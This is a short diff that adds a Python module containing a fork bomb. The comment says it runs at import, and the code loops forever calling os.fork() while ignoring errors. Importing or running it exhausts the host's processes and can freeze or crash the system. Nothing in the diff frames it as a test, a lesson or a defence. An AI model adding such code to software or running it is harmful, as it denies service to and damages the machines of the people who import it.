@@ -1,0 +1,8 @@
+# A fork bomb at import.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
